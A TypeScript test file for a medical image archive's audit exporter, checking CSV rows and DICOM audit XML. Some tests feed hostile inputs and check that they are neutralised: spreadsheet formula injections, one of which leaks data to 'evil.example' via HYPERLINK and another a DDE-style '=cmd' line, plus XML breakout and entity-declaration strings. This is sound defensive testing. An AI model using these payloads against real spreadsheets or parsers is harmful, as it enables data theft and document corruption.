import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { XmlDocument, XmlElement } from 'libxml2-wasm';
import { AUDIT_EVENT_TYPES, type AuditAction, type AuditEventRecord, type AuditEventType } from '../archive/audit/audit-event.ts';
import { toDicomAuditMessage } from '../archive/audit/dicom-audit-message.ts';
import { CSV_UTF8_BOM, auditCsvHeader, auditEventToCsvRow } from '../archive/audit/export-csv.ts';

function auditEvent(overrides: Partial<AuditEventRecord> = {}): AuditEventRecord {
  return {
    id: '42',
    eventType: 'instances-accessed',
    action: 'R',
    outcome: 0,
    occurredAt: new Date('2025-03-04T13:06:07.089+08:00'),
    userName: 'zhang.wei',
    userRole: 'radiologist',
    institutionId: '7',
    sourceAddress: '10.1.2.3',
    patientId: 'HOSP1|0042',
    patientName: '王小东',
    studyUids: ['1.2.840.99.1', '1.2.840.99.2'],
    purpose: null,
    detail: {},
    previousHash: '0'.repeat(64),
    hash: 'ab'.repeat(32),
    ...overrides,
  };
}

/** What PS3.15 A.5.3 asks of each kind of event: EventID, EventTypeCode, and the action the table fixes. */
const DICOM_MESSAGES: Record<AuditEventType, { eventId: [string, string]; eventTypeCode?: [string, string]; action: AuditAction }> = {
  login: { eventId: ['110114', 'User Authentication'], eventTypeCode: ['110122', 'Login'], action: 'E' },
  logout: { eventId: ['110114', 'User Authentication'], eventTypeCode: ['110123', 'Logout'], action: 'E' },
  query: { eventId: ['110112', 'Query'], action: 'E' },
  'instances-accessed': { eventId: ['110103', 'DICOM Instances Accessed'], action: 'R' },
  export: { eventId: ['110106', 'Export'], action: 'R' },
  'procedure-record': { eventId: ['110111', 'Procedure Record'], action: 'U' },
  'instances-stored': { eventId: ['110104', 'DICOM Instances Transferred'], action: 'C' },
  'association-accepted': { eventId: ['110108', 'Network Entry'], eventTypeCode: ['110124', 'Attach'], action: 'E' },
  'association-rejected': { eventId: ['110113', 'Security Alert'], eventTypeCode: ['110126', 'Node Authentication'], action: 'E' },
  'access-denied': { eventId: ['110113', 'Security Alert'], eventTypeCode: ['110132', 'Use of Restricted Function'], action: 'E' },
  'admin-change': { eventId: ['110113', 'Security Alert'], eventTypeCode: ['110137', 'User Security Attributes Changed'], action: 'U' },
  'audit-log-used': { eventId: ['110101', 'Audit Log Used'], action: 'R' },
};

const SOURCE = { auditSourceId: 'YINGYUN-ARCHIVE-1', enterpriseSiteId: '影云区域影像中心' };

// ---- CSV ----

function csvRecords(text: string): string[][] {
  return parseCsv(text, { bom: true }) as string[][];
}

function csvValues(event: AuditEventRecord): Record<string, string> {
  const [header, row] = csvRecords(auditCsvHeader() + auditEventToCsvRow(event));
  assert.ok(header && row);
  assert.equal(row.length, header.length);
  return Object.fromEntries(header.map((column, index) => [column, row[index]!]));
}

describe('audit CSV', () => {
  test('header names the columns in order and ends in CRLF', () => {
    assert.equal(
      auditCsvHeader(),
      'id,occurred_at,event_type,action,outcome,user_name,user_role,institution_id,source_address,patient_id,patient_name,study_uids,purpose,detail,hash\r\n',
    );
  });

  test('a row holds every field: UTC time, study UIDs joined by ;, compact JSON detail, empty for null', () => {
    const event = auditEvent({ userRole: null, purpose: null, detail: { route: '/dicomweb/studies/1.2.840.99.1', count: 3 } });
    const row = auditEventToCsvRow(event);
    assert.ok(row.endsWith('\r\n'));
    assert.equal(row.slice(0, -2).includes('\n'), false);
    assert.deepEqual(csvValues(event), {
      id: '42',
      occurred_at: '2025-03-04T05:06:07.089Z',
      event_type: 'instances-accessed',
      action: 'R',
      outcome: '0',
      user_name: 'zhang.wei',
      user_role: '',
      institution_id: '7',
      source_address: '10.1.2.3',
      patient_id: 'HOSP1|0042',
      patient_name: '王小东',
      study_uids: '1.2.840.99.1;1.2.840.99.2',
      purpose: '',
      detail: '{"route":"/dicomweb/studies/1.2.840.99.1","count":3}',
      hash: 'ab'.repeat(32),
    });
  });

  test('every event type makes one well-formed row', () => {
    const text = auditCsvHeader() + AUDIT_EVENT_TYPES.map((eventType) => auditEventToCsvRow(auditEvent({ eventType }))).join('');
    const [, ...rows] = csvRecords(text);
    assert.deepEqual(
      rows.map((row) => [row.length, row[2]]),
      AUDIT_EVENT_TYPES.map((eventType) => [15, eventType]),
    );
  });

  test('fields with commas, quotes, CR or LF are quoted with quotes doubled, and read back unchanged', () => {
    const patientName = 'Smith, "Bob"\r\nJr';
    const row = auditEventToCsvRow(auditEvent({ patientName, detail: { reason: 'a "b"' } }));
    assert.ok(row.includes('"Smith, ""Bob""\r\nJr"'));
    assert.ok(row.includes('"{""reason"":""a \\""b\\""""}"'));
    const values = csvValues(auditEvent({ patientName, detail: { reason: 'a "b"' } }));
    assert.equal(values.patient_name, patientName);
    assert.deepEqual(JSON.parse(values.detail!), { reason: 'a "b"' });
  });

  test('a field that a spreadsheet would take as a formula gets a leading apostrophe', () => {
    for (const userName of ['=1+1', '+1', '-1', '@SUM(A1:A9)', '\tcmd', '\rcmd', '=HYPERLINK("http://evil.example/?"&A1,"x")']) {
      assert.equal(csvValues(auditEvent({ userName })).user_name, `'${userName}`, JSON.stringify(userName));
    }
    assert.ok(auditEventToCsvRow(auditEvent({ patientId: '=cmd|x' })).includes(",'=cmd|x,"));
    assert.equal(csvValues(auditEvent({ userName: 'a=b' })).user_name, 'a=b');
    assert.equal(csvValues(auditEvent({ purpose: '会诊=复查' })).purpose, '会诊=复查');
  });

  test('Chinese text survives as UTF-8 behind the BOM', () => {
    assert.equal(CSV_UTF8_BOM, '\uFEFF');
    const file = Buffer.from(CSV_UTF8_BOM + auditCsvHeader() + auditEventToCsvRow(auditEvent({ purpose: '会诊：疑难病例' })), 'utf8');
    assert.deepEqual([...file.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const [header, row] = csvRecords(file.toString('utf8'));
    assert.equal(header![0], 'id');
    assert.equal(row![10], '王小东');
    assert.equal(row![12], '会诊：疑难病例');
  });
});

// ---- DICOM audit message ----

const ALWAYS_ARRAYS = new Set(['ActiveParticipant', 'ParticipantObjectIdentification', 'RoleIDCode', 'ParticipantObjectDetail', 'EventTypeCode']);

/** A plain object of an element: attributes as properties, child elements by name, text-only elements as strings. */
function plain(element: XmlElement): unknown {
  const children: XmlElement[] = [];
  for (let child = element.firstChild; child; child = child.next) if (child instanceof XmlElement) children.push(child);
  if (children.length === 0 && element.attrs.length === 0) return element.content;
  const object: Record<string, unknown> = Object.fromEntries(element.attrs.map((attribute) => [attribute.name, attribute.value]));
  for (const child of children) {
    if (ALWAYS_ARRAYS.has(child.name)) ((object[child.name] ??= []) as unknown[]).push(plain(child));
    else object[child.name] = plain(child);
  }
  return object;
}

interface ParsedCode {
  'csd-code': string;
  codeSystemName: string;
  originalText: string;
}
interface ParsedDetail {
  type: string;
  value: string;
}
interface ParsedParticipant {
  UserID: string;
  UserIsRequestor: string;
  NetworkAccessPointID?: string;
  NetworkAccessPointTypeCode?: string;
  RoleIDCode?: ParsedCode[];
}
interface ParsedObject {
  ParticipantObjectID: string;
  ParticipantObjectTypeCode: string;
  ParticipantObjectTypeCodeRole: string;
  ParticipantObjectIDTypeCode: ParsedCode;
  ParticipantObjectName?: string;
  ParticipantObjectQuery?: string;
  ParticipantObjectDetail?: ParsedDetail[];
}
interface ParsedMessage {
  EventIdentification: {
    EventActionCode: string;
    EventDateTime: string;
    EventOutcomeIndicator: string;
    EventID: ParsedCode;
    EventTypeCode?: ParsedCode[];
    EventOutcomeDescription?: string;
  };
  ActiveParticipant: ParsedParticipant[];
  AuditSourceIdentification: { AuditSourceID: string; AuditEnterpriseSiteID?: string; AuditSourceTypeCode: { 'csd-code': string } };
  ParticipantObjectIdentification?: ParsedObject[];
}

/** Parsed by libxml2, which refuses anything not well-formed (undefined entities, control characters, stray markup). */
function dicomMessage(event: AuditEventRecord, source: { auditSourceId: string; enterpriseSiteId?: string } = SOURCE): { xml: string; message: ParsedMessage } {
  const xml = toDicomAuditMessage(event, source);
  const document = XmlDocument.fromString(xml);
  try {
    assert.equal(document.root.name, 'AuditMessage');
    assert.equal(document.encoding, 'UTF-8');
    return { xml, message: plain(document.root) as ParsedMessage };
  } finally {
    document.dispose();
  }
}

const code = (value: ParsedCode | undefined): [string, string, string] | undefined =>
  value && [value['csd-code'], value.codeSystemName, value.originalText];
const decoded = (base64: string): string => Buffer.from(base64, 'base64').toString('utf8');
const detailsOf = (object: ParsedObject): [string, string][] => (object.ParticipantObjectDetail ?? []).map((detail) => [detail.type, decoded(detail.value)]);
const rolesOf = (participant: ParsedParticipant): string[] => (participant.RoleIDCode ?? []).map((role) => `${role.codeSystemName}:${role['csd-code']}`);

describe('DICOM audit message', () => {
  for (const eventType of AUDIT_EVENT_TYPES) {
    test(`${eventType}: EventID, EventTypeCode, action, outcome, time, the actor and the audit source`, () => {
      const expected = DICOM_MESSAGES[eventType];
      const { message } = dicomMessage(auditEvent({ eventType, action: expected.action, outcome: 4 }));
      const identification = message.EventIdentification;
      assert.deepEqual(code(identification.EventID), [expected.eventId[0], 'DCM', expected.eventId[1]]);
      assert.deepEqual(
        identification.EventTypeCode?.map(code),
        expected.eventTypeCode && [[expected.eventTypeCode[0], 'DCM', expected.eventTypeCode[1]]],
      );
      assert.equal(identification.EventActionCode, expected.action);
      assert.equal(identification.EventOutcomeIndicator, '4');
      assert.equal(identification.EventDateTime, '2025-03-04T05:06:07.089Z');

      const [actor, archive, ...others] = message.ActiveParticipant;
      assert.equal(actor?.UserID, 'zhang.wei');
      assert.equal(actor?.NetworkAccessPointID, '10.1.2.3');
      assert.equal(actor?.NetworkAccessPointTypeCode, '2');
      assert.ok(rolesOf(actor!).includes('99YINGYUN:radiologist'));
      // PS3.15 A.5.3.9 and A.5.3.11: the node entering, and the performers of a Security Alert, are not requestors.
      const performer = eventType === 'association-accepted' || expected.eventId[0] === '110113';
      assert.equal(actor?.UserIsRequestor, String(!performer));
      if (eventType === 'association-accepted') assert.equal(archive, undefined);
      else assert.deepEqual([archive?.UserID, archive?.UserIsRequestor], [SOURCE.auditSourceId, 'false']);
      assert.deepEqual(others, []);

      assert.deepEqual(message.AuditSourceIdentification, {
        AuditSourceID: SOURCE.auditSourceId,
        AuditEnterpriseSiteID: SOURCE.enterpriseSiteId,
        AuditSourceTypeCode: { 'csd-code': '4' },
      });
    });
  }

  test('instances accessed: the patient (Patient Number) and each study (Study Instance UID), with the stated purpose', () => {
    const { message } = dicomMessage(auditEvent({ purpose: '会诊：外院转诊' }));
    const [patient, ...studies] = message.ParticipantObjectIdentification!;
    assert.equal(patient?.ParticipantObjectID, 'HOSP1|0042');
    assert.equal(patient?.ParticipantObjectTypeCode, '1');
    assert.equal(patient?.ParticipantObjectTypeCodeRole, '1');
    assert.deepEqual(code(patient?.ParticipantObjectIDTypeCode), ['2', 'RFC-3881', 'Patient Number']);
    assert.equal(patient?.ParticipantObjectName, '王小东');
    assert.deepEqual(detailsOf(patient!), [['PurposeOfUse', '会诊：外院转诊']]);
    assert.deepEqual(
      studies.map((study) => [
        study.ParticipantObjectID,
        study.ParticipantObjectTypeCode,
        study.ParticipantObjectTypeCodeRole,
        code(study.ParticipantObjectIDTypeCode),
        detailsOf(study),
      ]),
      ['1.2.840.99.1', '1.2.840.99.2'].map((uid) => [uid, '2', '3', ['110180', 'DCM', 'Study Instance UID'], [['PurposeOfUse', '会诊：外院转诊']]]),
    );
  });

  test('query: the query itself, base64, named by its route; the user is Source and the archive Destination', () => {
    const query = 'PatientName=王*&StudyDate=20250101-&includefield=00081030';
    const { message } = dicomMessage(
      auditEvent({ eventType: 'query', action: 'E', patientId: null, patientName: null, studyUids: [], detail: { route: '/dicomweb/studies', query } }),
    );
    const [actor, archive] = message.ActiveParticipant;
    assert.deepEqual(rolesOf(actor!), ['DCM:110153', '99YINGYUN:radiologist']);
    assert.deepEqual(rolesOf(archive!), ['DCM:110152']);
    const [queried, ...rest] = message.ParticipantObjectIdentification!;
    assert.deepEqual(rest, []);
    assert.equal(queried?.ParticipantObjectID, '/dicomweb/studies');
    assert.equal(queried?.ParticipantObjectTypeCode, '2');
    assert.equal(queried?.ParticipantObjectTypeCodeRole, '3');
    assert.equal(decoded(queried!.ParticipantObjectQuery!), query);
    assert.equal(queried?.ParticipantObjectName, undefined);
  });

  test('a query without its text in detail has no query object', () => {
    const { message } = dicomMessage(auditEvent({ eventType: 'query', action: 'E', patientId: null, studyUids: [] }));
    assert.equal(message.ParticipantObjectIdentification, undefined);
  });

  test('export: person and archive are both Source, and each study says whether it was de-identified', () => {
    const { message } = dicomMessage(auditEvent({ eventType: 'export', detail: { deidentified: true } }));
    assert.deepEqual(message.ActiveParticipant.map(rolesOf), [['DCM:110153', '99YINGYUN:radiologist'], ['DCM:110153']]);
    const studies = message.ParticipantObjectIdentification!.filter((object) => object.ParticipantObjectTypeCode === '2');
    assert.deepEqual(studies.map(detailsOf), [[['Anonymized', 'true']], [['Anonymized', 'true']]]);
  });

  test('instances stored: the sender is Source, the archive Destination', () => {
    const { message } = dicomMessage(auditEvent({ eventType: 'instances-stored', action: 'C', userName: 'CT_SCANNER_3', userRole: null }));
    assert.deepEqual(message.ActiveParticipant.map(rolesOf), [['DCM:110153'], ['DCM:110152']]);
    assert.equal(message.ParticipantObjectIdentification?.length, 3);
  });

  test('access denied: a Security Alert whose subject is the resource, with an Alert Description', () => {
    const { message } = dicomMessage(
      auditEvent({
        eventType: 'access-denied',
        action: 'E',
        outcome: 8,
        detail: { route: '/dicomweb/studies/1.2.840.99.1/series', reason: 'study outside the user’s institutions' },
      }),
    );
    assert.equal(message.EventIdentification.EventOutcomeDescription, 'study outside the user’s institutions');
    const [subject, patient] = message.ParticipantObjectIdentification!;
    assert.equal(subject?.ParticipantObjectID, '/dicomweb/studies/1.2.840.99.1/series');
    assert.deepEqual(code(subject?.ParticipantObjectIDTypeCode), ['12', 'RFC-3881', 'URI']);
    assert.equal(subject?.ParticipantObjectTypeCode, '2');
    assert.deepEqual(detailsOf(subject!), [['Alert Description', 'study outside the user’s institutions']]);
    assert.equal(patient?.ParticipantObjectID, 'HOSP1|0042');
  });

  const REJECTED_ASSOCIATION: Partial<AuditEventRecord> = {
    eventType: 'association-rejected',
    action: 'E',
    outcome: 4,
    userName: 'UNKNOWN_AE',
    userRole: null,
    patientId: null,
    studyUids: [],
  };

  test('association rejected: the calling node is the alert subject, by address, named by its AE title', () => {
    const { message } = dicomMessage(
      auditEvent({ ...REJECTED_ASSOCIATION, detail: { reason: 'calling AE title not registered' } }),
    );
    const [subject] = message.ParticipantObjectIdentification!;
    assert.equal(subject?.ParticipantObjectID, '10.1.2.3');
    assert.deepEqual(code(subject?.ParticipantObjectIDTypeCode), ['110182', 'DCM', 'Node ID']);
    assert.equal(subject?.ParticipantObjectName, 'UNKNOWN_AE');
    assert.deepEqual(detailsOf(subject!), [['Alert Description', 'calling AE title not registered']]);

    const withoutReason = dicomMessage(auditEvent(REJECTED_ASSOCIATION)).message;
    assert.deepEqual(detailsOf(withoutReason.ParticipantObjectIdentification![0]!), [['Alert Description', 'association-rejected']]);
  });

  test('admin change: the changed user is the subject; a change to a DICOM peer is a Network Configuration alert', () => {
    const userChange = dicomMessage(
      auditEvent({ eventType: 'admin-change', action: 'U', patientId: null, studyUids: [], detail: { change: 'role set to auditor', username: 'li.na' } }),
    ).message;
    assert.deepEqual(code(userChange.EventIdentification.EventTypeCode?.[0]), ['110137', 'DCM', 'User Security Attributes Changed']);
    const [subject] = userChange.ParticipantObjectIdentification!;
    assert.deepEqual(code(subject?.ParticipantObjectIDTypeCode), ['11', 'RFC-3881', 'User Identifier']);
    assert.equal(subject?.ParticipantObjectID, 'li.na');
    assert.deepEqual(detailsOf(subject!), [['Alert Description', 'role set to auditor']]);

    const peerChange = dicomMessage(
      auditEvent({
        eventType: 'admin-change',
        action: 'U',
        patientId: null,
        studyUids: [],
        detail: { change: 'allowed networks of CT_SCANNER_3', target: 'dicom-peer' },
      }),
    ).message;
    assert.deepEqual(code(peerChange.EventIdentification.EventTypeCode?.[0]), ['110128', 'DCM', 'Network Configuration']);
  });

  test('audit log used: the audit trail is the object, a Security Resource named "Security Audit Log"', () => {
    const { message } = dicomMessage(auditEvent({ eventType: 'audit-log-used', userRole: 'auditor', patientId: null, studyUids: [] }));
    const [log] = message.ParticipantObjectIdentification!;
    assert.deepEqual(
      [log?.ParticipantObjectTypeCode, log?.ParticipantObjectTypeCodeRole, code(log?.ParticipantObjectIDTypeCode), log?.ParticipantObjectName],
      ['2', '13', ['12', 'RFC-3881', 'URI'], 'Security Audit Log'],
    );
  });

  test('hostile text is escaped: it reads back unchanged and adds no elements', () => {
    const patientName = '</AuditMessage><x>&amp; & "quoted" \'single\'';
    // Text that looks like an entity reference must be escaped too: some builders leave '&e;' as is,
    // which makes the document ill-formed, and '&amp;' as is, which reads back as '&'.
    const userName = '"><x a="1"/><!-- &e; &#60; &#0; \n\tline two';
    const reason = ']]></EventOutcomeDescription><x/>';
    const query = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>&e;';
    const { xml, message } = dicomMessage(
      auditEvent({ eventType: 'query', action: 'E', userName, patientName, detail: { reason, query, route: '/dicomweb/studies?a=1&b=<2>' } }),
    );
    assert.equal(xml.includes('<x'), false);
    assert.equal(xml.includes('<!DOCTYPE'), false);
    assert.equal(message.ActiveParticipant[0]?.UserID, userName);
    assert.equal(message.EventIdentification.EventOutcomeDescription, reason);
    const [queried, patient] = message.ParticipantObjectIdentification!;
    assert.equal(queried?.ParticipantObjectID, '/dicomweb/studies?a=1&b=<2>');
    assert.equal(decoded(queried!.ParticipantObjectQuery!), query);
    assert.equal(patient?.ParticipantObjectName, patientName);
  });

  test('characters XML cannot carry are replaced, so the message still parses', () => {
    const userName = 'ad\u0000min\u001b[2J\uD800';
    const { message } = dicomMessage(auditEvent({ eventType: 'login', action: 'E', outcome: 4, userName, detail: { reason: 'invalid-credentials' } }));
    assert.equal(message.ActiveParticipant[0]?.UserID, 'ad\uFFFDmin\uFFFD[2J\uFFFD');
  });

  test('Chinese text is written as UTF-8, not as character references', () => {
    const { xml } = dicomMessage(auditEvent({ patientName: '王^小东=Wang^Xiaodong' }));
    assert.ok(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>'));
    assert.ok(xml.includes('<ParticipantObjectName>王^小东=Wang^Xiaodong</ParticipantObjectName>'));
    assert.ok(xml.includes('AuditEnterpriseSiteID="影云区域影像中心"'));
    assert.equal(xml.includes('&#'), false);
  });

  test('a record that names nobody still makes a valid message: the actor is "unknown", no address, no objects', () => {
    const { message } = dicomMessage(
      auditEvent({ eventType: 'logout', action: 'E', userName: null, userRole: null, sourceAddress: null, patientId: null, patientName: null, studyUids: [] }),
      { auditSourceId: 'YINGYUN-ARCHIVE-1' },
    );
    assert.deepEqual(message.ActiveParticipant[0], { UserID: 'unknown', UserIsRequestor: 'true' });
    assert.equal(message.ParticipantObjectIdentification, undefined);
    assert.equal(message.AuditSourceIdentification.AuditEnterpriseSiteID, undefined);
  });

  test('an address that is not an IP address is a machine name (NetworkAccessPointTypeCode 1)', () => {
    const { message } = dicomMessage(auditEvent({ sourceAddress: 'ws12.radiology.example' }));
    assert.equal(message.ActiveParticipant[0]?.NetworkAccessPointTypeCode, '1');
  });
});
